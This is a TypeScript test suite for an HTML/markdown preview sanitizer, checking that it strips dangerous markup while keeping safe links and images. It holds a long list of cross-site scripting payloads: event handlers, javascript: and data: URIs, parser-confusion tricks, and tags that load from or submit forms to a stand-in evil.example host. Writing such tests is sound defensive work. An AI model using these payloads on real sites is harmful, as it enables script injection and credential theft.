/** Nothing that runs, loads, submits or restyles survives, whichever way it is written. */
import assert from 'node:assert/strict';
import { renderPreview } from '../../server/src/core/preview/renderPreview.ts';
import { sanitizeHtml } from '../../server/src/core/preview/sanitizeHtml.ts';

const hostile: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script\n>',
  '<script>alert(1)',
  '<script><!--</script><img src=x onerror=alert(1)>--></script>',
  '<style>@import "//evil.example"</style>',
  '<style><img src="</style><img src=x onerror=alert(1)>">',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x" ONERROR=alert(1) alt="a">',
  '<img src=`x`onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src=x:x onerror\u000b=alert(1)>',
  '<img src="a" title="&quot; onerror=alert(1) x=&quot;">',
  "<img src='a' alt='\" onerror=alert(1) \"'>",
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><foreignObject><body onload=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="java&NewLine;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6a;avascript&colon;alert(1)">x</a>',
  '<a href="&#38;#106;avascript:alert(1)">x</a>',
  '<a href="&#0000106avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href=javascript:alert(1)>x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="command:workbench.action.quit">x</a>',
  '<a href="vscode://x.y">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="\\\\server\\share">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="blob:x">x</a>',
  '<a href="view-source:x">x</a>',
  '<a href="C:\\x">x</a>',
  '[x](javascript:alert(1))',
  '[x](<java script:alert(1)>)',
  '[x](&#106;avascript:alert(1))',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x"onerror="alert(1)](y "t\\" onerror=alert(1)")',
  '[x](command:a.b)',
  '[x](vscode:a)',
  '[x](y "onmouseover=alert(1)")',
  '[a]("><img src=x onerror=alert(1)>)',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object>',
  '<embed src="x">',
  '<applet code=x>',
  '<frameset onload=alert(1)>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<body onload=alert(1)>',
  '<html onclick=alert(1)>',
  '<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<select onchange=alert(1)><option>x</select>',
  '<textarea autofocus onfocus=alert(1)>',
  '<isindex action=javascript:alert(1)>',
  '<label for=x onclick=alert(1)>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="position:fixed;inset:0">x</div>',
  '<p style="width:expression(alert(1))">',
  '<table background="javascript:alert(1)"><tr><td>x',
  '<body background="x">',
  '<font color=red onmouseover=alert(1)>',
  '<video src=x onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<video poster="javascript:alert(1)"><source onerror=alert(1)></video>',
  '<img srcset="//evil.example/x 1x">',
  '<picture><source srcset="//evil.example/x"></picture>',
  '<details ontoggle=alert(1) open>x</details>',
  '<marquee onstart=alert(1)>',
  '<dialog open onclose=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<plaintext><script>alert(1)</script>',
  '<title><img title="</title><img src=x onerror=alert(1)>">',
  '<listing><img src=x onerror=alert(1)></listing>',
  '<noembed><img title="</noembed><img src onerror=alert(1)>">',
  '<form id=attributes><input id=x name=attributes></form>',
  '<img name=querySelector>',
  '<img id="a" name="body">',
  '<a id="x\'"onclick=alert(1)">x</a>',
  '<p id="a b">x</p>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<?xml version="1.0"?><?import x>',
  '<!DOCTYPE html [<!ENTITY x "y">]>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<x onclick=alert(1)>y</x>',
  '<custom-element onclick=alert(1)>',
  '<a is="x-y" href="x" onclick=alert(1)>',
  '<p contenteditable onblur=alert(1)>',
  '<p slot=x part=y nonce=z>',
  '<p data-vscode-context="{}" data-href="javascript:x" data-src=x ping=x target=_top download>',
  '</p onclick=alert(1)>',
  '<p/onclick=alert(1)>',
  '<\u0000script>alert(1)</script>',
  '<a\u0000href="javascript:alert(1)">x</a>',
  '<a href="x" href="javascript:alert(1)">',
  '<p lang="x" onclick="alert(1)" lang=\'"onclick=alert(1)\'>',
  '<p class="task-box\\" onclick=alert(1)">',
  '```"onclick=alert(1)\nx\n```',
  '```"><img\nx\n```',
  '## x {#a"onclick=alert(1)}',
  '## x {: #a onclick="alert(1)" }',
  '[^"><img src=x onerror=alert(1)>]\n\n[^"><img]: x',
  '# <img src=x onerror=alert(1)>',
  '| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <svg/onload=alert(1)> |',
  '- [x] <img src=x onerror=alert(1)>',
  'a <img src="x\n" onerror="alert(1)"> b',
  '<a href="https://x.example/?a=1&amp;b=%22onclick=alert(1)" title="a\'b">x</a>',
];

describe('preview: sanitising', () => {
  for (const snippet of hostile) {
    it(`disarms ${JSON.stringify(snippet)}`, () => {
      assertHarmless(renderPreview({ text: snippet, bodyStart: 0, bodyStartLine: 0 }).html);
      assertHarmless(renderPreview({ text: `Text ${snippet} text`, bodyStart: 0, bodyStartLine: 0 }).html);
      assertHarmless(sanitizeHtml(snippet));
      assertHarmless(sanitizeHtml(`<p title="${snippet}">`));
      assertHarmless(sanitizeHtml(`<a href='${snippet}' ${snippet}>`));
    });
  }

  it('drops what scripts and styles say with them, wherever they stand', () => {
    const { html } = renderPreview({
      text: 'a <script>alert(1)</script> b\n\n<style>\np { color: red }\n</style>\n\nc',
      bodyStart: 0,
      bodyStartLine: 0,
    });
    assert.doesNotMatch(html, /alert|color/);
    assert.match(html, /a {2}b[\s\S]*c/);
  });

  it('says which scheme it refused', () => {
    assert.equal(sanitizeHtml('<a href="command:x">a</a>'), '<a data-refused="command:">a</a>');
  });

  it('keeps the links that policies have', () => {
    for (const href of [
      'https://a.example/x?a=1&amp;b=2#c',
      'http://a.example',
      'mailto:a@b.example?subject=x',
      'tel:+49123',
      '#cookies',
      'terms.md#a',
      '../x/y.md',
      '/legal/terms.md',
      '?a:b',
      './a:b.md',
    ]) {
      assert.equal(sanitizeHtml(`<a href="${href}">x</a>`), `<a href="${href}">x</a>`);
    }
  });

  it('keeps local, remote and embedded images for the page to decide upon', () => {
    for (const src of ['images/a.png', '/a.png', 'https://a.example/a.png', 'data:image/png;base64,iVBORw0KGgo=']) {
      assert.equal(sanitizeHtml(`<img src="${src}" alt="a">`), `<img src="${src}" alt="a">`);
    }
  });

  it('changes nothing that it let through before', () => {
    for (const snippet of hostile) {
      const once = sanitizeHtml(snippet);
      assert.equal(sanitizeHtml(once), once);
    }
  });
});

const elements = new Set(
  `a abbr address b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i img ins
  kbd li mark ol p pre q rp rt ruby s samp section small span strong sub summary sup table tbody td tfoot th thead time tr tt u ul var wbr`.split(
    /\s+/,
  ),
);
const attributes = new Set(
  'id name title lang dir class data-line data-lines data-refused href src alt width height span open value start reversed type colspan rowspan align scope datetime'.split(
    ' ',
  ),
);

/** Reads the result with a stricter grammar than any browser's: whatever does not fit it is an alarm. */
function assertHarmless(html: string): void {
  const rest = html.replace(
    /<(\/?)([a-z0-9]+)((?: [a-z-]+(?:="[^"<>]*")?)*)(?: \/)?>/g,
    (_tag, _slash: string, name: string, list: string) => {
      assert.ok(elements.has(name), `element ${name} in ${html}`);
      for (const [, attribute, value] of list.matchAll(/ ([a-z-]+)(?:="([^"<>]*)")?/g)) {
        assert.ok(attributes.has(attribute ?? ''), `attribute ${attribute} in ${html}`);
        if (attribute === 'href' || attribute === 'src') assertHarmlessAddress(value ?? '');
      }
      return '';
    },
  );
  assert.doesNotMatch(rest, /</, `stray < in ${html}`);
}

function assertHarmlessAddress(value: string): void {
  const url = value.replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&quot;', '"').replaceAll('&amp;', '&');
  assert.doesNotMatch(value.replace(/&(?:lt|gt|quot|amp);/g, ''), /&/, `character reference in ${value}`);
  const parsed = URL.parse(url, 'policywright-base://host/folder/');
  assert.ok(parsed && ['http:', 'https:', 'mailto:', 'tel:', 'policywright-base:'].includes(parsed.protocol), `address ${url}`);
  assert.ok(parsed.protocol !== 'policywright-base:' || parsed.host === 'host', `address ${url}`);
}
